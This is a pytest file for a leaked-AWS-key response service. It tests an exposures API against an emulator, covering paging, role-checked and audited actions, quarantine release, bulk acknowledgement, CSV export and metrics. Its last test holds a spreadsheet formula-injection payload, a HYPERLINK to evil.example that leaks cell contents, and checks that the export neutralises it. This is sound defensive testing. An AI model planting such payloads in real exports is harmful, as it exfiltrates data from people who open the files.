"""The exposures REST API against real exposures (responded to on the emulator): pages and filters,
detail with deliveries, operator actions with roles and audit, release of the quarantine, bulk, CSV."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from conftest import member_credentials
from helpers import env_pair, exposure_of, respond
from keysentry.authority.clients import AwsClients
from keysentry.config.settings import Settings
from keysentry.emulator.seed import SeededUser
from keysentry.service.app import create_app
from keysentry.store import open_store
from keysentry.store.tokens import create_token

V3 = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"


@pytest.fixture
def world(settings: Settings, new_user, tmp_path: Path) -> tuple[Settings, list[SeededUser]]:
    settings = settings.model_copy(update={"investigation_delays": []})
    users = [new_user("workloads-dev"), new_user("workloads-dev"), new_user("workloads-prod")]
    for n, user in enumerate(users):
        (tmp_path / f"leak{n}.env").write_text(env_pair(user))
    respond(settings, tmp_path)
    return settings, users


@pytest.fixture
def api(world: tuple[Settings, list[SeededUser]]) -> Iterator[tuple[TestClient, dict[str, dict[str, str]]]]:
    settings, _ = world
    store = open_store(settings.resolved_database_url())
    headers = {
        role: {"Authorization": f"Bearer {create_token(store, f'{role}-person', role)}"}
        for role in ("viewer", "responder")
    }
    store.dispose()
    with TestClient(create_app(settings, background=False)) as client:
        yield client, headers


def test_pages_and_filters(api, world) -> None:  # type: ignore[no-untyped-def]
    client, headers = api
    _, users = world
    assert client.get("/v1/exposures").status_code == 401
    first = client.get("/v1/exposures", params={"limit": 2}, headers=headers["viewer"]).json()
    assert len(first["items"]) == 2 and first["next_cursor"]
    second = client.get(
        "/v1/exposures", params={"limit": 2, "cursor": first["next_cursor"]}, headers=headers["viewer"]
    ).json()
    assert len(second["items"]) == 1 and second["next_cursor"] is None
    keys = [e["key_id"] for e in first["items"] + second["items"]]
    assert sorted(keys) == sorted(u.access_key_id for u in users)
    prod = client.get(
        "/v1/exposures", params={"account": users[2].account_id}, headers=headers["viewer"]
    ).json()
    assert [e["key_id"] for e in prod["items"]] == [users[2].access_key_id]
    notified = client.get("/v1/exposures", params={"state": "notified"}, headers=headers["viewer"]).json()
    assert len(notified["items"]) == 3
    none = client.get("/v1/exposures", params={"state": "closed"}, headers=headers["viewer"]).json()
    assert none == {"items": [], "next_cursor": None}
    assert client.get("/v1/exposures", params={"cursor": "!!"}, headers=headers["viewer"]).status_code == 422


def test_detail_shows_sightings_timeline_and_every_delivery(api, world) -> None:  # type: ignore[no-untyped-def]
    client, headers = api
    _, users = world
    listed = client.get(
        "/v1/exposures", params={"account": users[2].account_id}, headers=headers["viewer"]
    ).json()
    exposure_id = listed["items"][0]["id"]
    d = client.get(f"/v1/exposures/{exposure_id}", headers=headers["viewer"]).json()
    assert d["key_id"] == users[2].access_key_id and d["containment"]["policy_arn"] == V3
    assert d["sightings"][0]["path"].endswith(".env")
    assert [t["kind"] for t in d["timeline"]][:2] == ["detected", "sighted"]
    assert {m["channel"]: m["state"] for m in d["deliveries"]} == {"case": "sent", "eventbridge": "sent"}
    assert all(m["tries"][0]["ok"] for m in d["deliveries"])
    assert users[2].access_key_id in d["case"]
    assert users[2].secret_access_key not in str(d)
    assert client.get("/v1/exposures/999999", headers=headers["viewer"]).status_code == 404


def test_actions_are_audited_need_the_responder_role_and_release_takes_the_quarantine_off(
    api, world, admin_clients: AwsClients
) -> None:  # type: ignore[no-untyped-def]
    client, headers = api
    _, users = world
    user = users[0]
    e = exposure_of(client.app.state.responder, user.access_key_id)
    assert (
        client.post(f"/v1/exposures/{e.id}/acknowledge", json={}, headers=headers["viewer"]).status_code
        == 403
    )
    done = client.post(f"/v1/exposures/{e.id}/ack", json={}, headers=headers["responder"])
    assert done.status_code == 200 and done.json()["state"] == "acknowledged"
    missing = client.post(f"/v1/exposures/{e.id}/false-positive", json={}, headers=headers["responder"])
    assert missing.status_code == 422 and "reason" in missing.text  # a reason is required (its schema)
    blank = client.post(
        f"/v1/exposures/{e.id}/false-positive", json={"reason": "  "}, headers=headers["responder"]
    )
    assert blank.status_code == 422
    wrong = client.post(f"/v1/exposures/{e.id}/acknowledge", json={}, headers=headers["responder"])
    assert wrong.status_code == 409  # already acknowledged
    released = client.post(
        f"/v1/exposures/{e.id}/release", json={"reason": "key rotated"}, headers=headers["responder"]
    )
    assert released.status_code == 200
    iam = admin_clients.client("iam", credentials=member_credentials(admin_clients, user.account_id))
    attached = [
        p["PolicyArn"] for p in iam.list_attached_user_policies(UserName=user.user_name)["AttachedPolicies"]
    ]
    assert V3 not in attached
    timeline = client.get(f"/v1/exposures/{e.id}", headers=headers["viewer"]).json()["timeline"]
    audited = [(t["kind"], t["actor"]) for t in timeline if t["actor"] != "keysentry"]
    assert audited == [
        ("acknowledge", "api:responder-person"),
        ("release.started", "api:responder-person"),
        ("release.succeeded", "api:responder-person"),
    ]


def test_bulk_actions_answer_each_exposure(api, world) -> None:  # type: ignore[no-untyped-def]
    client, headers = api
    ids = [e["id"] for e in client.get("/v1/exposures", headers=headers["viewer"]).json()["items"]]
    answer = client.post(
        "/v1/exposures/bulk/acknowledge", json={"ids": [*ids, 999999]}, headers=headers["responder"]
    ).json()
    states = {r["id"]: r.get("state") or r["status"] for r in answer["results"]}
    assert states == {**{i: "acknowledged" for i in ids}, 999999: 404}


def test_csv_export(api, world) -> None:  # type: ignore[no-untyped-def]
    client, headers = api
    _, users = world
    answer = client.get("/v1/exposures.csv", headers=headers["viewer"])
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert sorted(r["key_id"] for r in rows) == sorted(u.access_key_id for u in users)
    assert {r["state"] for r in rows} == {"notified"}
    assert all(u.secret_access_key not in answer.text for u in users)


def test_metrics_for_prometheus(api, world) -> None:  # type: ignore[no-untyped-def]
    client, _headers = api
    text = client.get("/metrics").text
    assert 'keysentry_exposures{state="notified"} 3.0' in text
    assert "keysentry_containment_seconds_count 3.0" in text
    assert 'keysentry_containment_seconds_bucket{le="+Inf"} 3.0' in text
    assert "keysentry_notification_seconds_count 3.0" in text
    assert 'keysentry_outbox_messages{channel="eventbridge",state="sent"} 3.0' in text
    assert client.get("/healthz").json()["status"] == "ok"


def test_csv_cells_never_start_a_spreadsheet_formula(api, world, new_user) -> None:  # type: ignore[no-untyped-def]
    client, headers = api
    user = new_user("workloads-prod")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    report = {"key_id": user.access_key_id, "secret": user.secret_access_key, "url": formula, "path": "@x"}
    answer = client.post("/v1/reports", content=json.dumps(report), headers=headers["responder"])
    assert answer.status_code == 202, answer.text
    rows = list(csv.DictReader(io.StringIO(client.get("/v1/exposures.csv", headers=headers["viewer"]).text)))
    [row] = [r for r in rows if r["key_id"] == user.access_key_id]
    assert row["url"] == "'" + formula  # shown as text by Excel, LibreOffice and Sheets
    for r in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in r.values()), r
